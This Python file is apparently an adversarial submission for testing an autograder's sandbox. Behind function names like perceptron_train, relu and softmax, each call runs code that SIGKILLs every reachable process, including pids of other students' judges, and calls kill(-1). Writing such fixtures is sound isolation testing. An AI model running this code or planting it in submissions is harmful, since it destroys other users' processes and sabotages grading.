"""Adversarial: kills every process it can signal: each pid in /proc, the pids the tests
give it (`HINTS["pids"]`: a classmate's judge), and `kill(-1)` (every process of its
user: in `grade-all`, the other workers and judges)."""

import os
import signal

import numpy as np

HINTS: dict = {}


def attack() -> dict:
    me = os.getpid()
    pids = {int(p) for p in os.listdir("/proc") if p.isdigit()} | {int(p) for p in HINTS.get("pids", [])}
    signalled = []
    for pid in sorted(pids - {me}):
        try:
            os.kill(pid, signal.SIGKILL)
            signalled.append(pid)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # ends this process too when it works: last
    except OSError:
        pass
    return {"signalled": signalled}


def _exercise(x, *args, **kwargs):
    attack()
    return np.zeros_like(x)


step = perceptron_predict = perceptron_train = dense_forward = sigmoid = tanh = relu = _exercise
leaky_relu = prelu = elu = gelu = softmax = log_softmax = mlp_forward = _exercise
